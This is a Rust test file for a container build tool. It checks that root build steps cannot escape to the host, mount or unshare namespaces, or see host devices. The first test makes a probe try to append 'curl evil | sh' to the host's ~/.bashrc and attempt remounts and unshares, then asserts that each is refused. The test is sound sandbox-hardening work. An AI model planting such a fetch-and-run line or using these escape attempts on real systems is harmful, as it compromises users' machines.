//! Build steps (`[image] run`) run as root with every capability in the build's user
//! namespace: the host's tree must not be in that namespace at all, the mount API and
//! new namespaces are refused, and the step gets a minimal /dev.

use super::*;

/// Installs a probe recipe with `steps` and returns the install's output.
fn install_steps(env: &Env, dir: &Path, steps: &[&str]) -> std::process::Output {
    let rootfs = probe_image(dir);
    let run = steps
        .iter()
        .map(|s| format!("'''{s}'''"))
        .collect::<Vec<_>>()
        .join(", ");
    let recipe = probe_recipe(env, "steps", &rootfs, &format!("run = [{run}]"), "");
    env.jig(&["install", "-v", recipe.to_str().unwrap()])
}

#[test]
fn a_build_step_cannot_unmount_its_way_to_the_host() {
    for env in Env::all() {
        let l = env.label();
        let dir = shared_tempdir("steps-");
        // The user's ~/.bashrc on the host, which the step tries to append to.
        let bashrc = env.home().join(".bashrc");
        env.write(&bashrc, "# the user's own\n");
        let step = format!(
            "/probe escape {} 'curl evil | sh'; /probe remount-rw /etc/resolv.conf '# jig test'; \
             /probe mount-tmpfs /mnt; /probe unshare; echo built > /built",
            bashrc.display()
        );
        let out = install_steps(&env, dir.path(), &[&step]);
        assert_ok(&out, &format!("{l} install"));
        let log = stderr(&out);
        assert_eq!(
            fs::read_to_string(&bashrc).unwrap(),
            "# the user's own\n",
            "{l} the step wrote the host's ~/.bashrc:\n{log}"
        );
        // Each call the step made was refused, not merely ineffective.
        for refused in [
            "umount2 errno=1",
            "setns errno=1",
            "remount errno=1",
            "mount errno=1",
            "unshare-user errno=1",
            "unshare-mnt errno=1",
        ] {
            assert!(log.contains(refused), "{l} no `{refused}` in:\n{log}");
        }
        // Positive control: the step ran and its work is in the image.
        let out = env.shim("sh", &["-c", "cat /built"]);
        assert_ok(&out, &l);
        assert_eq!(stdout(&out), "built\n", "{l}");
    }
}

#[test]
fn a_build_step_sees_a_minimal_dev_and_no_terminal() {
    for env in Env::all() {
        let l = env.label();
        let dir = shared_tempdir("steps-");
        let step = "ls /dev > /dev-list; ls /dev/pts > /pts-list; \
                    readlink /proc/self/fd/0 > /stdin; /probe ctty > /ctty; \
                    /probe pty > /pty; echo x > /dev/null && echo null-ok > /null";
        let out = install_steps(&env, dir.path(), &[step]);
        assert_ok(&out, &format!("{l} install"));
        let read = |p: &str| {
            let out = env.shim("sh", &["-c", &format!("cat {p}")]);
            assert_ok(&out, &format!("{l} cat {p}"));
            stdout(&out)
        };
        let dev: Vec<String> = read("/dev-list").lines().map(str::to_owned).collect();
        let expected = [
            "fd", "full", "null", "ptmx", "pts", "random", "shm", "stderr", "stdin", "stdout",
            "tty", "urandom", "zero",
        ];
        assert_eq!(dev, expected, "{l} the build's /dev");
        // The host has more (this machine's disks, kmsg, ...); the step saw none of it.
        assert!(Path::new("/dev/kmsg").exists() || Path::new("/dev/mem").exists());
        assert_eq!(
            read("/pts-list"),
            "ptmx\n",
            "{l} no host terminal in /dev/pts"
        );
        assert_eq!(read("/stdin").trim(), "/dev/null", "{l}");
        // No controlling terminal: /dev/tty leads nowhere (ENXIO).
        assert!(
            read("/ctty").contains("open-tty errno=6"),
            "{l} {}",
            read("/ctty")
        );
        // Positive controls: the devices work and a step can still open a pty (apt
        // runs dpkg on one).
        assert_eq!(read("/null"), "null-ok\n", "{l}");
        assert!(read("/pty").contains("echoed"), "{l} {}", read("/pty"));
    }
}
